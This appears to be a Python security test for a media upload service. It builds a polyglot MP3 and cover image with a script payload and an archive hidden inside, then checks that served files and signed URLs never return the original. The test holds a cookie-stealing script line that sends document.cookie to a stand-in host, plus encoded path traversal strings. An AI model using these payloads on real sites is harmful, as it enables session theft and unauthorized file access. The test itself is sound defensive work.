"""A file that is two things at once: what is served is of our own making, never what came."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from mutagen.id3 import APIC, COMM, ID3
from PIL import Image
from starlette.applications import Starlette

from adapters.storage.local import LocalStore
from adapters.storage.signing import UrlSigner
from adapters.transcode.transcoder import FfmpegTranscoder
from domain.media.records import PlayableState
from domain.media.streams import StreamQuality, stream_folder
from resolvers.context import RequestContext
from resolvers.media.processing import process
from resolvers.media.streaming import stream_of
from resolvers.media.uploads import NewTrack, upload_track
from tests.conftest import ANNA
from tests.unit.adapters.transcode.sounds import a_tone
from tests.unit.resolvers.media.imports import all_tracks
from web.pages.media_uploads import media_routes

SCRIPT = b"<html><script>fetch('//evil.test/'+document.cookie)</script></html>"
PAYLOAD = b"MZ payload of the archive: 8d1c0f5e"
BASE = "http://tutti.test"

pytestmark = pytest.mark.parametrize("profile", ["embedded"], indirect=True)


def an_archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("evil.exe", PAYLOAD)
    return made.getvalue()


def a_polyglot(folder: Path) -> bytes:
    """An MP3 that is a page to a browser and an archive to an unpacker; so is its cover."""
    path = a_tone(folder / "tone.mp3", seconds=2)
    picture = io.BytesIO()
    Image.new("RGB", (400, 400), (200, 30, 30)).save(picture, "JPEG", comment=SCRIPT)
    tags = ID3()
    tags.add(COMM(encoding=3, lang="eng", desc="", text=[SCRIPT.decode()]))
    cover = picture.getvalue() + an_archive()
    tags.add(APIC(encoding=3, mime="image/jpeg", type=3, desc="", data=cover))
    tags.save(path)
    return path.read_bytes() + SCRIPT + an_archive()


@pytest.fixture
def ctx(as_viewer: Callable[..., RequestContext], tmp_path: Path) -> RequestContext:
    made = as_viewer(ANNA)
    store = LocalStore(tmp_path / "objects")
    return replace(made, ports=replace(made.ports, store=store, urls=UrlSigner([b"s" * 32])))


async def test_nothing_that_is_served_is_what_was_sent(ctx: RequestContext, tmp_path: Path) -> None:
    signer = ctx.ports.urls
    assert isinstance(signer, UrlSigner)
    polyglot = a_polyglot(tmp_path)
    upload = await upload_track(ctx, NewTrack(file_name="a.mp3", size_bytes=len(polyglot)))
    app = Starlette(routes=media_routes(ctx, signer, tmp_path / "incoming"))
    transcoder = FfmpegTranscoder(tmp_path / "scratch")
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url=BASE) as client:
        sent = await client.put(upload.url, content=polyglot)
        assert sent.status_code == 202
        await process(
            ctx, transcoder, upload.track.playable, on_progress=ignore, is_last_attempt=True
        )
        [track] = await all_tracks(ctx)
        assert (track.state, track.source_type) == (PlayableState.READY, "audio/mpeg")
        stream = stream_of(ctx, track, StreamQuality.HIGH)
        assert stream is not None

        served = [key for folder in ("hls/", "covers/") for key in await keys(ctx, folder)]
        assert any(key.startswith("covers/") for key in served)
        for key in served:
            data = await ctx.ports.store.get(key)
            assert SCRIPT not in data, key
            assert b"evil.exe" not in data, key
            assert PAYLOAD not in data, key

        # No address of a listener's leads to the original, however it is bent.
        folder = stream_folder(str(track.hls_key))
        tokens = {url.split("/")[4] for url in (stream.url, stream.adaptive_url)}
        later = ctx.clock.now() + timedelta(minutes=5)
        tokens |= {
            signer.sign_prefix(prefix, later).split("/")[2]
            for prefix in ("covers/", folder, "hls/")
        }
        for token in tokens:
            for path in (
                str(track.source_key),
                f"{folder}../../../{track.source_key}",
                f"{folder}%2e%2e/%2e%2e/%2e%2e/{track.source_key}",
                f"covers/../{track.source_key}",
            ):
                answer = await client.get(f"/media/{token}/{path}")
                assert answer.status_code in {403, 404}, path
                assert SCRIPT not in answer.content


async def keys(ctx: RequestContext, folder: str) -> list[str]:
    return [key async for key in ctx.ports.store.list(folder)]


async def ignore(*_done: object) -> None:
    """Take no notice."""
